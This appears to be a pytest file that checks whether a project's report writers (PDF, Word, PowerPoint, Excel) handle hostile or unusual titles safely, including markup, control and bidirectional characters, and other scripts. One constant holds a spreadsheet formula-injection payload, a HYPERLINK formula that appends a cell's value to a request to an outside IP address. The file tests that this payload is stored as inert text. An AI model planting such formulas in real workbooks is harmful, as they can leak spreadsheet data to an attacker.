"""Titles that look like markup, formulas or worse: they are written as they are, or without what no form can hold."""

import io
from collections.abc import Callable
from dataclasses import replace

import docx
import openpyxl
import pptx
import pymupdf
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from segnavia.briefing.state import State
from segnavia.plans.book import PlanBook
from segnavia.registry.models import Actor
from segnavia.reports.monitoring.compose import report_of
from segnavia.reports.monitoring.forms import FORMS
from segnavia.reports.monitoring.model import Basis, Column, Kind, Report, Section, Table
from segnavia.reports.monitoring.writing import cleaned
from segnavia.reports.texts import clean
from tests.actions.agreements import in_force

pytestmark = pytest.mark.long  # documents are written by the dozen

MARKUP = (
    r"""#let x = 1; *forte* _corsivo_ $x^2$ <etichetta> @rimando `codice` "virgolette" \ & ' ]] }} {{ {% [x] == // /*"""
)
FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"paga")'
EVERY_FORM = pytest.mark.parametrize("form", FORMS)


def with_title(now: State, title: str) -> State:
    """The same plan, in which the first mission, objective and driver have this title."""
    package = now.book.package
    changed = {
        name: (getattr(package, name)[0].model_copy(update={"title": title}), *getattr(package, name)[1:])
        for name in ("missions", "objectives", "drivers")
    }
    return replace(now, book=PlanBook(now.book.sha256, package.model_copy(update=changed)))


def texts(form: str, content: bytes) -> str:
    """All that a form says, without blanks."""
    readers: dict[str, Callable[[bytes], str]] = {"pdf": _of_pdf, "docx": _of_docx, "pptx": _of_pptx, "xlsx": _of_xlsx}
    return "".join(readers[form](content).split())


def _of_pdf(content: bytes) -> str:
    with pymupdf.open("pdf", content) as document:
        return "".join(page.get_text("text") for page in document)


def _of_docx(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    return "".join(node.text or "" for node in document.element.body.iter() if str(node.tag).endswith("}t"))


def _of_pptx(content: bytes) -> str:
    deck = pptx.Presentation(io.BytesIO(content))
    return "".join(
        node.text or "" for slide in deck.slides for node in slide._element.iter() if str(node.tag).endswith("}t")
    )


def _of_xlsx(content: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return "".join(str(cell.value or "") for sheet in book for row in sheet.iter_rows() for cell in row)


@EVERY_FORM
def test_title_with_markup_is_written_as_it_is(now: State, form: str) -> None:
    content = FORMS[form].write(report_of(with_title(now, MARKUP)))
    said, wanted = texts(form, content), "".join(MARKUP.split())
    # slides cut what takes more than two lines, and a PDF divides words
    assert wanted[:60] in said if form == "pptx" else wanted in said.replace("-", "").replace("­", "") or wanted in said


@EVERY_FORM
@pytest.mark.parametrize(
    "title",
    [
        "\u202eottegorp\u202c \u2067x\u2069",
        "nul\x00 bel\x07 esc\x1b",
        "pezzo \ud800 spaiato",
        "\ufffe\uffff\ue000 privato",
    ],
    ids=["turned", "control", "surrogate", "private"],
)
def test_title_with_what_no_form_can_hold_is_cleaned(now: State, form: str, title: str) -> None:
    content = FORMS[form].write(report_of(with_title(now, title)))
    assert "".join(clean(title).split()) in texts(form, content)


@EVERY_FORM
@pytest.mark.parametrize("title", ["שלום עולם", "مرحبا", "東京", "🚊 tram", "Ελλάδα и Россия"])
def test_title_in_another_script_breaks_nothing(now: State, form: str, title: str) -> None:
    said = texts(form, FORMS[form].write(report_of(with_title(now, title))))
    if form != "pdf":  # where a font lacks a character, PDF has a box
        assert "".join(title.split()) in said


def test_no_cell_of_a_workbook_is_a_formula(now: State) -> None:
    content = FORMS["xlsx"].write(report_of(with_title(now, FORMULA)))
    cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == FORMULA for cell in cells)
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}  # no "f"


def small() -> Report:
    """A report without chapters, quick to write."""
    basis = Basis(None, "", "0" * 64, "0", "CC-BY-4.0", "x", ())
    return Report("it", "it", "Ente", "Piano", "2022-2024", "Rapporto", "Soggetto", ("Frase.",), basis, ())


@example(title="0\u20e3", cell="\x9c")  # a mark, and a character, that no font has
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=st.text(max_size=40), cell=st.text(max_size=40))
@EVERY_FORM
def test_any_text_can_be_written(form: str, title: str, cell: str) -> None:
    columns = (Column("a", title or "A"), Column("b", title, Kind.COUNT), Column("c", "Gruppo", quoted=True))
    table = Table("t", title, columns, ((cell, 1, title), (cell, None, title)), group="c", note=cell)
    section = Section("s", f"S {title}", sentences=(cell,), tables=(table,), notes=(title,))
    report = cleaned(replace(small(), subject=title, sections=(section,)))
    assert FORMS[form].write(report)


@EVERY_FORM
@pytest.mark.parametrize("title", ["東京 <b>&amp;</b>", "بلدية 🚊", "bel\x07 e \u202efine", '=1+1 "#*$@'])
def test_actor_of_any_name_can_stand_in_charts(now: State, form: str, title: str) -> None:
    in_force(is_public=True)
    Actor.objects.filter(code="comune-di-rho").update(title=title)
    report = report_of(now)
    assert any(chart.key == "network" for chart in report.charts)
    assert FORMS[form].write(report)
